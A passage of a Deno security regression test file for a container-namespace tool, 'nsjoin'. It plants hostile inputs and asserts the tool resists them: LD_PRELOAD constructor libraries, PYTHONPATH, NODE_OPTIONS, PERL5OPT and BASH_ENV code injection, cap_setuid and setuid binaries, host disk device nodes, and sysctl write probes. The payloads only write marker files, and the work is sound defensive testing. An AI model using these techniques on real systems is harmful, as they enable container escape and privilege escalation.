      const runs: { code: number; stderr: string }[] = [];
      for (let i = 0; i < 20; i++) {
        runs.push(await cliBounded(["exec", "-u", "hostonly", String(pid), "true"]));
      }
      assertEquals(
        runs.filter((r) => r.code !== 125).length,
        0,
        "exec ran as the host file's user",
      );
      for (const r of runs) assertMatch(r.stderr, /^nsjoin exec: Cannot find user "hostonly"/);
    } finally {
      if (swapper) {
        try {
          swapper.kill("SIGKILL");
        } catch {
          // Already gone.
        }
        await swapper.status;
      }
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(host, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "a container's /etc/passwd or /etc/group as FIFO, /dev/zero or 3 GB: exec exits 125 at once (finding 5)",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    await dockerImage();
    const c = await startContainer("docker", `nsja-files-${STATE_RUN}`);
    try {
      // Set up from the host, through the container's root: docker exec itself would hang
      // on a FIFO /etc/passwd (runc reads it for every exec).
      const etc = `/proc/${c.pid}/root/etc`;
      const cases: [string, () => Promise<unknown>, RegExp][] = [
        ["/etc/passwd as a FIFO", () => sh("mkfifo", [`${etc}/passwd`]), /not a regular file/],
        [
          "/etc/passwd -> /dev/zero",
          () => Deno.symlink("/dev/zero", `${etc}/passwd`),
          /not a regular/,
        ],
        [
          "/etc/passwd as a 3 GB sparse file",
          () => sh("truncate", ["-s", "3G", `${etc}/passwd`]),
          /larger than 4 MiB/,
        ],
        [
          "/etc/group as a FIFO",
          async () => {
            await Deno.writeTextFile(`${etc}/passwd`, "root:x:0:0:root:/root:/bin/sh\n");
            await Deno.remove(`${etc}/group`);
            await sh("mkfifo", [`${etc}/group`]);
          },
          /Cannot read \/etc\/group .*not a regular file/,
        ],
      ];
      for (const [what, setup, reason] of cases) {
        await t.step(what, async () => {
          await Deno.remove(`${etc}/passwd`);
          await setup();
          const res = await cliBounded(["exec", `docker:${c.name}`, "touch", "/tmp/ran"]);
          assertEquals([res.code, res.killed], [125, false], res.stderr);
          assertEquals(res.stderr.trim().split("\n").length, 1, res.stderr);
          assertMatch(res.stderr, reason);
          assertThrows(() => Deno.statSync(`/proc/${c.pid}/root/tmp/ran`), "the program ran");
        });
      }
    } finally {
      await removeContainers([c]);
    }
  },
});

// ---- review: debug and cp

Deno.test({
  name:
    "debug: the container's root, through /proc/PID/root of the debug program, cannot write the host's sysctls, touch the host's device inodes or see the host's terminals",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-dbgrev-${crypto.randomUUID().slice(0, 8)}`);
    // A host pty held open for the test: a host terminal the container must not find.
    const ptmx = await Deno.open("/dev/ptmx", { read: true, write: true });
    const session = new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "-A",
        "--quiet",
        CLI,
        "debug",
        c.name,
        "--",
        "sh",
        "-c",
        "echo $$ > /target/debug.pid; sleep 60",
      ],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    try {
      let dpid = "";
      for (let i = 0; i < 150 && !/^[0-9]+$/.test(dpid); i++) {
        await new Promise((r) => setTimeout(r, 100));
        dpid = (await engineExec(c, [], ["cat", "/debug.pid"])).stdout.trim();
      }
      assertMatch(dpid, /^[0-9]+$/);
      const hostPts = [...Deno.readDirSync("/dev/pts")].map((e) => e.name).filter((n) =>
        /^[0-9]+$/.test(n)
      );
      assert(hostPts.length > 0, "the host has a pty open");
      const before = Deno.statSync("/dev/full").mtime?.getTime();
      const d = `/proc/${dpid}/root`;
      // What a hostile container does once a debug program appears in its pid namespace
      // (same uid, same capabilities: /proc/PID/root and ptrace are open to it). The
      // sysctl write puts back the value already there (proves writability without harm).
      const peek = await engineExec(c, [], [
        "sh",
        "-c",
        [
          `v=$(cat ${d}/proc/sys/kernel/core_pattern)`,
          `(echo "$v" > ${d}/proc/sys/kernel/core_pattern) 2>/dev/null && echo WROTE-SYSCTL`,
          `touch ${d}/dev/full 2>/dev/null && echo TOUCHED-DEVICE`,
          `ls ${d}/dev/pts`,
        ].join("; "),
      ]);
      assert(!peek.stdout.includes("WROTE-SYSCTL"), "kernel.core_pattern was writable");
      assert(!peek.stdout.includes("TOUCHED-DEVICE"), "the host's /dev/full inode was changed");
      assertEquals(Deno.statSync("/dev/full").mtime?.getTime(), before);
      const seen = peek.stdout.trim().split(/\s+/).filter((n) => /^[0-9]+$/.test(n));
      assertEquals(seen.filter((n) => hostPts.includes(n)), [], "host ptys in the debug /dev/pts");
    } finally {
      ptmx.close();
      session.kill("SIGKILL");
      await session.status;
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "cp out of a container drops file capabilities as it drops setuid: a cap_setuid=ep file does not reach the host as one",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-cprev-${crypto.randomUUID().slice(0, 8)}`);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cprev-" });
    const xattrsOf = (path: string) => {
      const fd = openat2(AT_FDCWD, path, O.RDONLY, 0n);
      try {
        return getXattrs(fd).map(([n]) => n);
      } finally {
        close(fd);
      }
    };
    try {
      // The container's root owns a program with file capabilities (a v2 security.capability:
      // effective, permitted cap_setuid) and the setuid bit, made as its root could.
      const planted = `/proc/${c.pid}/root/door`;
      await Deno.copyFile("/bin/true", planted);
      await Deno.chmod(planted, 0o4755);
      const fd = openat2(AT_FDCWD, planted, O.RDONLY, 0n);
      try {
        const caps = new Uint8Array(20);
        new DataView(caps.buffer).setUint32(0, 0x02000001, true); // revision 2, effective
        new DataView(caps.buffer).setUint32(4, 1 << 7, true); // permitted: CAP_SETUID
        setXattrs(fd, [["security.capability", caps]]);
      } finally {
        close(fd);
      }
      assert(xattrsOf(planted).includes("security.capability"), "the source has file caps");
      const out = await new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "cp", `docker:${c.name}:/door`, `${dir}/door`],
        stdout: "piped",
        stderr: "piped",
      }).output();
      assertEquals(out.code, 0, new TextDecoder().decode(out.stderr));
      assertEquals(Deno.statSync(`${dir}/door`).mode! & 0o7777, 0o755);
      assertEquals(xattrsOf(`${dir}/door`).filter((n) => n === "security.capability"), []);
    } finally {
      await Deno.remove(dir, { recursive: true });
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "cp into a container without -a: a host user's setuid/setgid program does not become a root one there; root's keeps its bits",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-cprev-${crypto.randomUUID().slice(0, 8)}`);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cprev-" });
    try {
      // A local user's own program: anyone may set setuid and setgid on their files.
      await Deno.copyFile("/bin/true", `${dir}/theirs`);
      await Deno.chown(`${dir}/theirs`, 1234, 2345);
      await Deno.chmod(`${dir}/theirs`, 0o6755);
      await Deno.copyFile("/bin/true", `${dir}/roots`);
      await Deno.chmod(`${dir}/roots`, 0o6755);
      for (const f of ["theirs", "roots"]) {
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "cp", `${dir}/${f}`, `docker:${c.name}:/`],
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(out.code, 0, new TextDecoder().decode(out.stderr));
      }
      const theirs = Deno.statSync(`/proc/${c.pid}/root/theirs`);
      // Given to the container's root (docker cp's rule), so without its bits.
      assertEquals([theirs.uid, theirs.gid, theirs.mode! & 0o7777], [0, 0, 0o755]);
      const roots = Deno.statSync(`/proc/${c.pid}/root/roots`);
      assertEquals([roots.uid, roots.gid, roots.mode! & 0o7777], [0, 0, 0o6755]);
    } finally {
      await Deno.remove(dir, { recursive: true });
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "cp out of a container: files hard-linked outside the copied tree do not exhaust the caller's fds",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-cprev-${crypto.randomUUID().slice(0, 8)}`);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cprev-" });
    try {
      // 1200 files, each with its second name outside /d: cp never meets the other name.
      const made = await engineExec(c, [], [
        "sh",
        "-c",
        "mkdir /d /o && cd /d && i=0; while [ $i -lt 1200 ]; do echo x > f$i && ln f$i /o/f$i; i=$((i+1)); done",
      ]);
      assertEquals(made.code, 0, made.stderr);
      // The usual default soft limit for a root shell.
      const out = await new Deno.Command("sh", {
        args: [
          "-c",
          'ulimit -n 1024 && exec "$@"',
          "sh",
          Deno.execPath(),
          "run",
          "-A",
          "--quiet",
          CLI,
          "cp",
          `docker:${c.name}:/d`,
          `${dir}/d`,
        ],
        stdout: "piped",
        stderr: "piped",
      }).output();
      assertEquals(out.code, 0, new TextDecoder().decode(out.stderr));
      assertEquals([...Deno.readDirSync(`${dir}/d`)].length, 1200);
    } finally {
      await Deno.remove(dir, { recursive: true });
      await removeContainers([c]);
    }
  },
});

// ---- review: targets and exec

Deno.test({
  name:
    "review: a containerd state dir a user can write to cannot name a host process as a container",
  ignore: NEEDS_ROOT,
  async fn() {
    // Root points nsjoin at a containerd state dir that a user can write to (one level is
    // theirs). Every file there that nsjoin reads is owned by root, but it is a symlink the
    // user made: init.pid names a root daemon's pidfile (a host `sleep` here, as
    // /run/docker.pid names dockerd). Root's `exec containerd:ID` must not run on the host.
    const user = await testUser();
    const secret = await Deno.makeTempDir({ prefix: "nsjoin-daemon-" });
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-userstate-" });
    const host = new Deno.Command("sleep", { args: ["60"] }).spawn();
    const id = `forged${crypto.randomUUID().slice(0, 8)}`;
    try {
      await Deno.writeTextFile(`${secret}/daemon.pid`, `${host.pid}\n`);
      const bundle = `${dir}/io.containerd.runtime.v2.task/default/${id}`;
      await Deno.mkdir(bundle, { recursive: true });
      await Deno.symlink(`${secret}/daemon.pid`, `${bundle}/init.pid`);
      for (
        const p of [
          dir,
          `${dir}/io.containerd.runtime.v2.task`,
          `${dir}/io.containerd.runtime.v2.task/default`,
          bundle,
        ]
      ) {
        await Deno.chown(p, user.uid, user.gid);
      }
      const find = { containerdState: [dir], sources: ["state"] as const };
      const err = await resolveContainer(`containerd:${id}`, find).then(
        (pinned) => (pinned.close(), undefined),
        (e) => e,
      );
      assert(err instanceof NamespaceError && err.code === "ESRCH", String(err));
      const r = await new Deno.Command(Deno.execPath(), {
        args: [
          "run",
          "-A",
          "--quiet",
          "--no-lock",
          CLI,
          "exec",
          id,
          "--",
          "touch",
          `${secret}/ran`,
        ],
        cwd: "/",
        env: { NO_COLOR: "1", NSJOIN_CONTAINERD_STATE: dir },
        stdin: "null",
      }).output();
      assertEquals(r.code, 125, text(r.stderr));
      assert(!(await Deno.stat(`${secret}/ran`).then(() => true, () => false)), "ran on the host");
    } finally {
      host.kill("SIGKILL");
      await host.status;
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(secret, { recursive: true });
    }
  },
});

/**
 * A process of the test user in a cgroup they made and named `name`, in a cgroup v2 subtree
 * delegated to them as systemd delegates user@UID.service (the directory and its
 * cgroup.procs are theirs). Dispose to kill it and remove both cgroups.
 */
async function userNamedCgroup(name: string): Promise<{ pid: number } & AsyncDisposable> {
  const user = await testUser();
  const mount = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
    .map((l) => l.split(" ")).find((f) => f[3] === "/" && f.includes("cgroup2"))?.[4];
  assert(mount, "no cgroup2 mount");
  const deleg = `${mount}/nsjoin-deleg-${crypto.randomUUID().slice(0, 8)}`;
  const fake = `${deleg}/${name}`;
  const flags = await Deno.makeTempDir({ prefix: "nsjoin-deleg-" });
  await Deno.mkdir(deleg);
  for (const p of [deleg, `${deleg}/cgroup.procs`, flags]) await Deno.chown(p, user.uid, user.gid);
  const child = new Deno.Command("setpriv", {
    args: [
      `--reuid=${user.uid}`,
      `--regid=${user.gid}`,
      "--clear-groups",
      "sh",
      "-c",
      `while [ ! -e ${flags}/go ]; do sleep 0.05; done; mkdir ${fake} && ` +
      `echo $$ > ${fake}/cgroup.procs && touch ${flags}/moved && exec sleep 60`,
    ],
  }).spawn();
  // The user's process starts in their subtree (their login session, say); then they move it.
  await Deno.writeTextFile(`${deleg}/cgroup.procs`, String(child.pid));
  await Deno.writeTextFile(`${flags}/go`, "");
  for (let i = 0; i < 200 && !(await Deno.stat(`${flags}/moved`).catch(() => 0)); i++) {
    await new Promise((r) => setTimeout(r, 25));
  }
  assert((await Deno.readTextFile(`/proc/${child.pid}/cgroup`)).includes(name), "not moved");
  return {
    pid: child.pid,
    [Symbol.asyncDispose]: async () => {
      child.kill("SIGKILL");
      await child.status;
      await Deno.remove(fake).catch(() => {});
      await Deno.remove(deleg).catch(() => {});
      await Deno.remove(flags, { recursive: true });
    },
  };
}

Deno.test({
  name:
    "review: a pod's PID reused by a user's process in a cgroup they named for the pod is not joined",
  ignore: NEEDS_ROOT,
  async fn() {
    // containerd's init.pid has no start time: the pin is trusted once the process is in a
    // cgroup named for the pod member's ID. A user with a delegated cgroup subtree (systemd's
    // user@UID.service) names one cri-containerd-ID.scope and moves the process holding the
    // reused PID there. Root's `exec k8s:…` must not join that host process.
    const sandbox = "a".repeat(64), member = "b".repeat(64);
    await using user = await userNamedCgroup(`cri-containerd-${member}.scope`);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-k8s-state-" });
    try {
      // containerd's own (root's) bundles, still naming the PID the user's process now has.
      const common = {
        "io.kubernetes.cri.sandbox-id": sandbox,
        "io.kubernetes.cri.sandbox-name": "reused",
        "io.kubernetes.cri.sandbox-namespace": "default",
        "io.kubernetes.cri.sandbox-uid": "00000000-0000-4000-8000-000000000001",
      };
      for (
        const [id, extra] of [
          [sandbox, { "io.kubernetes.cri.container-type": "sandbox" }],
          [member, {
            "io.kubernetes.cri.container-type": "container",
            "io.kubernetes.cri.container-name": "app",
          }],
        ] as const
      ) {
        const bundle = `${dir}/io.containerd.runtime.v2.task/k8s.io/${id}`;
        await Deno.mkdir(bundle, { recursive: true });
        await Deno.writeTextFile(`${bundle}/init.pid`, String(user.pid));
        await Deno.writeTextFile(
          `${bundle}/config.json`,
          JSON.stringify({ process: { cwd: "/", env: [] }, annotations: { ...common, ...extra } }),
        );
      }
      const err = await resolveContainer("k8s:default/reused/app", { containerdState: [dir] })
        .then((pinned) => (pinned.close(), undefined), (e) => e);
      assert(err instanceof NamespaceError && err.code === "ESRCH", String(err));
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "review: the /proc scan takes no user-made cgroup for a container (bare-ID exec)",
  ignore: NEEDS_ROOT,
  async fn() {
    // A container found only by the scan (CRI-O with no state, docker's socket gone) is its
    // earliest-started process in a cgroup named for its ID. A user's long-running process
    // moved into a cgroup they named crio-ID.scope would be taken for it: root's
    // `exec ID …` would then run in that host process's namespaces.
    const id = crypto.randomUUID().replaceAll("-", "").repeat(2);
    await using user = await userNamedCgroup(`crio-${id}.scope`);
    const listed = await findContainers({ sources: ["cgroup"] });
    assertEquals(listed.filter((c) => c.pid === user.pid), []);
    const err = await resolveContainer(id.slice(0, 16), { sources: ["cgroup"] }).then(
      (pinned) => (pinned.close(), undefined),
      (e) => e,
    );
    assert(err instanceof NamespaceError && err.code === "ESRCH", String(err));
  },
});

Deno.test({
  name: "review: a UDP forward holds a bounded number of client sockets, however many sources send",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Each new source address gets a socket in the target until it idles out (60 s): a local
    // user sending from many ports (or 127.x.y.z addresses) would use up our fds.
    const { forward } = await import("../src/forward.ts");
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    const fds = () => [...Deno.readDirSync("/proc/self/fd")].length;
    await using fwd = await forward(`/proc/${target.pid}/ns/net`, {
      remote: 5353,
      local: 0,
      protocol: "udp",
    });
    const dgram = (await import("node:dgram")).default;
    const before = fds();
    for (let i = 0; i < 400; i++) {
      const s = dgram.createSocket("udp4");
      await new Promise<void>((r) => s.send("x", fwd.local.port, "127.0.0.1", () => r()));
      s.close();
    }
    // Let the forward see every datagram.
    await new Promise((r) => setTimeout(r, 500));
    const grown = fds() - before;
    assert(grown <= 260, `${grown} fds for 400 sources`);
  },
});

Deno.test({
  name:
    "review: daxIn and targetEnv outside the target's mount namespace do not take its LD_PRELOAD",
  ignore: NEEDS_ROOT,
  async fn() {
    // A user's own process (our mount namespace, nothing to join) carries
    // LD_PRELOAD=<their library>: root's daxIn(thatPid) must not run programs with it.
    const { daxIn } = await import("../dax.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-preload-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/evil.c`,
      `#include <stdio.h>
       __attribute__((constructor)) static void run(void) {
         FILE *f = fopen("${dir}/pwned", "w"); if (f) fclose(f);
       }`,
    );
    const cc = await new Deno.Command("gcc", {
      args: ["-shared", "-fPIC", "-o", `${dir}/evil.so`, `${dir}/evil.c`],
    }).output();
    assertEquals(cc.code, 0, text(cc.stderr));
    const child = new Deno.Command("setpriv", {
      // The library loads into the user's sleep too, which cannot write to our directory.
      args: [
        `--reuid=${user.uid}`,
        `--regid=${user.gid}`,
        "--clear-groups",
        "env",
        `LD_PRELOAD=${dir}/evil.so`,
        "sleep",
        "60",
      ],
    }).spawn();
    try {
      // Wait until sleep (not setpriv) carries the environment.
      for (let i = 0; i < 100; i++) {
        if ((await Deno.readTextFile(`/proc/${child.pid}/cmdline`)).startsWith("sleep")) break;
        await new Promise((r) => setTimeout(r, 20));
      }
      const environ = await Deno.readTextFile(`/proc/${child.pid}/environ`);
      assert(environ.includes("LD_PRELOAD="), "no LD_PRELOAD in the user's process");
      const $ = daxIn(child.pid);
      assertEquals(await $`ls ${dir}/evil.so`.text(), `${dir}/evil.so`);
      assert(!(await Deno.stat(`${dir}/pwned`).then(() => true, () => false)), "preloaded");
      // NsCommand's targetEnv (and `nsenter -e`) outside its mount namespace: the rest of
      // its environment, not the loader's variables.
      const out = await new NsCommand("env", { target: child.pid, targetEnv: true }).output();
      assertEquals(out.code, 0, text(out.stderr));
      assert(!text(out.stdout).includes("LD_PRELOAD"), text(out.stdout));
      assert(!(await Deno.stat(`${dir}/pwned`).then(() => true, () => false)), "preloaded");
    } finally {
      child.kill("SIGKILL");
      await child.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "review: a containerd bundle naming a PID outside the container's cgroup is not joined",
  ignore: NEEDS_ROOT,
  async fn() {
    // containerd's init.pid has no start time. A bundle left behind (its shim or containerd
    // died) names a PID the kernel gave since to a host process: `exec containerd:ID` and a
    // bare `exec ID` must not run there.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stale-" });
    const host = new Deno.Command("sleep", { args: ["60"] }).spawn();
    const id = `stale${crypto.randomUUID().slice(0, 8)}`;
    try {
      const bundle = `${dir}/io.containerd.runtime.v2.task/default/${id}`;
      await Deno.mkdir(bundle, { recursive: true });
      await Deno.writeTextFile(`${bundle}/init.pid`, String(host.pid));
      await Deno.writeTextFile(`${bundle}/config.json`, JSON.stringify({ process: { env: [] } }));
      const find = { containerdState: [dir], sources: ["state"] as const };
      for (const ref of [`containerd:${id}`, id]) {
        const err = await resolveContainer(ref, find).then(
          (pinned) => (pinned.close(), undefined),
          (e) => e,
        );
        assert(err instanceof NamespaceError && err.code === "ESRCH", `${ref}: ${err}`);
      }
    } finally {
      host.kill("SIGKILL");
      await host.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- issue 9: review 3

Deno.test({
  name:
    "review 3: a target's environment names no code for host interpreters outside its mount namespace",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A container sets PYTHONPATH, NODE_OPTIONS, PERL5OPT, HOME… to files it planted, named
    // through /proc/<its host PID>/root (which host root can follow): a host interpreter run
    // by `enter -n -e` / targetEnv must not load them. The files live only in a tmpfs of the
    // target's own mount namespace.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-envcode-" });
    await Deno.chmod(dir, 0o755);
    const inside = `${dir}/inside`;
    await Deno.mkdir(inside);
    const py = (await sh("/usr/bin/python3", [
      "-c",
      "import sys; print(f'lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages')",
    ])).trim();
    const at = `/proc/$$/root${inside}`;
    const marker = (name: string) => `${dir}/pwned-${name}`;
    // node resolves a --require path through the /proc magic link (to a host path where
    // the file is not), but NODE_OPTIONS can carry the code itself.
    await Deno.writeTextFile(
      `${dir}/node-options`,
      `--import=data:text/javascript,import(\`node:fs\`).then((f)=>f.writeFileSync(\`${
        marker("node")
      }\`,\`\`))`,
    );
    await using target = await makeTarget({
      flags: ["-m", "-n"],
      setup: [
        `mount -t tmpfs none ${inside}`,
        `export PYTHONPATH=${at}/py NODE_OPTIONS="$(cat ${dir}/node-options)"`,
        `export PERL5LIB=${at}/pl PERL5OPT=-MEvil BASH_ENV=${at}/rc HOME=${at}/home`,
        `export LC_ALL=C.UTF-8 TERM=xterm TZ=${at}/tz`,
      ].join("; "),
    });
    const root = `/proc/${target.pid}/root${inside}`;
    const plant = async (path: string, code: string) => {
      await Deno.mkdir(`${root}/${path.slice(0, path.lastIndexOf("/"))}`, { recursive: true });
      await Deno.writeTextFile(`${root}/${path}`, code);
    };
    await plant("py/sitecustomize.py", `open(${JSON.stringify(marker("python"))}, "w")\n`);
    await plant(
      `home/.local/${py}/usercustomize.py`,
      `open(${JSON.stringify(marker("python-home"))}, "w")\n`,
    );
    await plant("pl/Evil.pm", `open(my $f, ">", ${JSON.stringify(marker("perl"))}); 1;\n`);
    await plant("rc", `: > ${marker("bash")}\n`);
    const programs: [string, string[], string[]][] = [
      ["/usr/bin/python3", ["-c", "pass"], ["python", "python-home"]],
      ["/usr/bin/node", ["-e", "0"], ["node"]],
      ["/usr/bin/perl", ["-e", "0"], ["perl"]],
      ["/bin/bash", ["-c", ":"], ["bash"]],
    ];
    const pwned = async () => {
      const out: string[] = [];
      for await (const e of Deno.readDir(dir)) if (e.name.startsWith("pwned-")) out.push(e.name);
      for (const name of out) await Deno.remove(`${dir}/${name}`);
      return out.sort();
    };
    try {
      await t.step("the planted code runs when a host program takes that environment", async () => {
        // Proves the payloads work: the same programs with the target's environment as is.
        const env = Object.fromEntries(
          (await Deno.readTextFile(`/proc/${target.pid}/environ`)).split("\0").filter(Boolean)
            .map((e) => [e.slice(0, e.indexOf("=")), e.slice(e.indexOf("=") + 1)]),
        );
        for (const [program, args] of programs) {
          await new Deno.Command(program, { args, env, clearEnv: true }).output();
        }
        assertEquals(await pwned(), [
          "pwned-bash",
          "pwned-node",
          "pwned-perl",
          "pwned-python",
          "pwned-python-home",
        ]);
      });
      await t.step("NsCommand targetEnv with net only", async () => {
        for (const [program, args] of programs) {
          const out = await new NsCommand(program, {
            target: target.pid,
            namespaces: ["net"],
            targetEnv: true,
            args,
          }).output();
          assertEquals(out.code, 0, `${program}: ${text(out.stderr)}`);
        }
        assertEquals(await pwned(), []);
      });
      await t.step("a root directory of the caller's, or a mount namespace file", async () => {
        // `enter -r/ -e` and a named mnt file run a program from a filesystem the caller
        // chose, not from the target's: the same rule.
        const ns = `/proc/${Deno.pid}/ns/mnt`;
        for (const extra of [{ root: "/" }, { namespaces: { net: true as const, mnt: ns } }]) {
          for (const [program, args] of programs) {
            const out = await new NsCommand(program, {
              target: target.pid,
              namespaces: ["net"],
              targetEnv: true,
              args,
              ...extra,
            }).output();
            assertEquals(out.code, 0, `${program}: ${text(out.stderr)}`);
          }
        }
        assertEquals(await pwned(), []);
      });
      await t.step("enter -n -e", async () => {
        for (const [program, args] of programs) {
          const out = await new Deno.Command(Deno.execPath(), {
            args: [
              "run",
              "-A",
              CLI,
              "enter",
              "-t",
              String(target.pid),
              "-n",
              "-e",
              program,
              ...args,
            ],
          }).output();
          assertEquals(out.code, 0, `${program}: ${text(out.stderr)}`);
        }
        assertEquals(await pwned(), []);
      });
      await t.step("what stays: the locale and the terminal, not a path for TZ", async () => {
        const out = await new NsCommand("env", {
          target: target.pid,
          namespaces: ["net"],
          targetEnv: true,
        }).output();
        const env = text(out.stdout);
        assertMatch(env, /^LC_ALL=C\.UTF-8$/m);
        assertMatch(env, /^TERM=xterm$/m);
        assert(!env.includes("/proc/"), env);
      });
    } finally {
      await target.kill();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "review 3: cp into a target makes no device node unless asked (a tar handed a user a disk)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A container (CAP_MKNOD is in docker's defaults; its device cgroup stops it opening the
    // node, not making it) puts a node for a host disk in a directory. Root streams that
    // directory into a local user's own namespaces (`cp ctr:/x - | cp - PID:/y`): made by host
    // root, owned by the target's root (the user), the node opened the disk for the user. The
    // disk here: a loop device over a file holding a secret.
    const { tarFrom, tarTo, copyTo } = await import("../src/copy.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cpdev-" });
    await Deno.chmod(dir, 0o755);
    const secret = `HOST SECRET ${crypto.randomUUID()}`;
    await Deno.writeTextFile(`${dir}/disk.img`, secret.padEnd(65536, "\0"));
    const loop = (await sh("losetup", ["-f", "--show", `${dir}/disk.img`])).trim();
    try {
      const [major, minor] = (await sh("stat", ["-c", "%t %T", loop])).trim().split(" ")
        .map((h) => String(parseInt(h, 16)));
      await Deno.mkdir(`${dir}/a`);
      await Deno.mkdir(`${dir}/b`);
      // The user's own directory: cp writes only where their namespaces' root could (stop 17).
      await Deno.chown(`${dir}/b`, user.uid, user.gid);
      await using hostile = await makeTarget({
        flags: ["-m"],
        setup: `mount -t tmpfs none ${dir}/a && mknod -m 600 ${dir}/a/disk b ${major} ${minor}`,
      });
      // As rootlesskit maps them: the user's subordinate ids too (setgroups allowed).
      await using theirs = await makeTarget({
        flags: ["--user", "--map-root-user", "--map-auto", "--mount"],
        user,
      });
      const readsDisk = async (node: string) => {
        const out = await new Deno.Command("setpriv", {
          args: [
            `--reuid=${user.uid}`,
            `--regid=${user.gid}`,
            "--clear-groups",
            "head",
            "-c",
            String(secret.length),
            node,
          ],
          stderr: "null",
        }).output();
        return text(out.stdout) === secret;
      };
      await t.step("a tar from one target into another: refused, nothing made", async () => {
        await assertRejects(
          () => tarTo(theirs.pid, `${dir}/b`, tarFrom(hostile.pid, `${dir}/a/.`)),
          /it is a block device, refused inside a target without --devices/,
        );
        assertThrows(() => Deno.lstatSync(`${dir}/b/disk`), Deno.errors.NotFound);
        assert(!(await readsDisk(`${dir}/b/disk`)));
      });
      await t.step("a host directory with a node (copyTo): refused the same", async () => {
        await Deno.mkdir(`${dir}/c`);
        await sh("mknod", ["-m", "600", `${dir}/c/disk`, "b", major, minor]);
        await assertRejects(
          () => copyTo(theirs.pid, `${dir}/c`, `${dir}/b/c`),
          /refused inside a target without --devices/,
        );
        assertThrows(() => Deno.lstatSync(`${dir}/b/c/disk`), Deno.errors.NotFound);
      });
      await t.step("with devices: true it is made, owned by the target's root", async () => {
        await tarTo(theirs.pid, `${dir}/b`, tarFrom(hostile.pid, `${dir}/a/.`), { devices: true });
        const made = Deno.lstatSync(`${dir}/b/disk`);
        assert(made.isBlockDevice);
        assertEquals(made.uid, user.uid);
        // What the refusal prevents: the user reads the disk through it.
        assert(await readsDisk(`${dir}/b/disk`), "the user cannot read the disk");
      });
      await t.step("cp --devices is for the container side only", async () => {
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", CLI, "cp", "--devices", `${theirs.pid}:${dir}/b`, `${dir}/d`],
        }).output();
        assertEquals(out.code, 2);
        assertMatch(text(out.stderr), /--devices: device nodes are made only inside a container/);
      });
    } finally {
      await sh("losetup", ["-d", loop]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "review 3: cp into a user's namespaces gives file capabilities that count only there (a tar made a host root door)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A file capability written by host root is a v2 one, valid in every user namespace. A
    // container sets cap_setuid on a program of its own; root streams it into a local user's
    // `unshare -Ur` namespaces: owned by the user, the program run from the host gave them
    // CAP_SETUID there. `setcap` inside those namespaces would write a v3 one whose root is
    // the user's: cp has to write that.
    const { tarFrom, tarTo } = await import("../src/copy.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cpcap-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/a`);
    await Deno.mkdir(`${dir}/b`);
    // Exits 0 when setuid(0) works: it needs CAP_SETUID in the host's user namespace.
    await Deno.writeTextFile(
      `${dir}/su.c`,
      "#include <unistd.h>\nint main(void){return setuid(0) == 0 ? 0 : 1;}",
    );
    const cc = await new Deno.Command("gcc", { args: ["-o", `${dir}/su`, `${dir}/su.c`] }).output();
    assertEquals(cc.code, 0, text(cc.stderr));
    await using hostile = await makeTarget({
      flags: ["-m"],
      setup: `mount -t tmpfs none ${dir}/a && cp ${dir}/su ${dir}/a/su && ` +
        `setcap cap_setuid+ep ${dir}/a/su`,
    });
    // As rootlesskit maps them: the user's subordinate ids too (setgroups allowed).
    await using theirs = await makeTarget({
      flags: ["--user", "--map-root-user", "--map-auto", "--mount"],
      user,
    });
    const asUser = (program: string) =>
      new Deno.Command("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", program],
      }).output();
    try {
      await t.step("the container's program has the capability", async () => {
        assertMatch(await sh("getcap", [`/proc/${hostile.pid}/root${dir}/a/su`]), /cap_setuid=ep/);
      });
      for (const archive of [false, true]) {
        await t.step(`copied in${archive ? " with -a" : ""}: no host capability`, async () => {
